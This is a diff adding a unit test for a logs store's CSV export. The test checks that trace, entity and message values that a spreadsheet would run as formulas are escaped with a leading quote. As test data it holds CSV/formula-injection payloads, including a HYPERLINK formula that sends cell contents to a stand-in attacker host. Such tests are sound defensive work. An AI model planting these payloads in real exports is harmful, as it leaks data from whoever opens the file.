@@ -1,3 +1,4 @@
+import Papa from 'papaparse'
 import { createPinia, setActivePinia } from 'pinia'
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
 import type { LogFilterQuery, LogListQuery } from '@shared/ipc'
@@ -141,6 +142,27 @@ describe('useLogsStore', () => {
     expect(first).toContain(',checkout-7f3a,t')
     expect(store.exporting).toBe(false)
     expect(useNotificationsStore().queue).toEqual([expect.objectContaining({ kind: 'success', title: 'Audit log exported', detail: '2 entries' })])
+  })
+
+  it('writes trace ids and entity ids a spreadsheet would run as a formula behind a quote, so opening the export runs nothing', async () => {
+    const base = { id: 'l1', tenant_id: 't', entity_type: 'token', operation: 'read', message: 'Unauthorized', actor_type: 'application', actor_id: 'a1', created_at: '2026-11-25T10:00:00.000Z' }
+    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
+    const entries = [
+      { ...base, entity_id: 'tok_1', trace_id: hyperlink },
+      { ...base, entity_id: '@HYPERLINK("https://evil.example","x")' },
+      { ...base, entity_id: '-1-1', trace_id: '+1+1' },
+      { ...base, entity_id: 'tok_2', message: '=1+1\nsecond line' }
+    ] as LogEntry[]
+    setApi(fakeApi({ logs: { export: vi.fn(async () => entries) } }))
+    const blobs: Blob[] = []
+    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => (blobs.push(blob as Blob), 'blob:csv'))
+    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
+    await useLogsStore().exportCsv()
+    const [, ...rows] = Papa.parse<string[]>(await blobs[0].text()).data
+    const column = (name: string) => rows.map((row) => row[['created_at', 'actor_type', 'actor_id', 'entity_type', 'entity_id', 'operation', 'message', 'count', 'trace_id', 'tenant_id'].indexOf(name)])
+    expect(column('trace_id')).toEqual([`'${hyperlink}`, '', "'+1+1", ''])
+    expect(column('entity_id')).toEqual(['tok_1', `'@HYPERLINK("https://evil.example","x")`, "'-1-1", 'tok_2'])
+    expect(column('message')).toEqual(['Unauthorized', 'Unauthorized', 'Unauthorized', "'=1+1\nsecond line"])
   })
 
   it('downloads nothing when the export is refused', async () => {
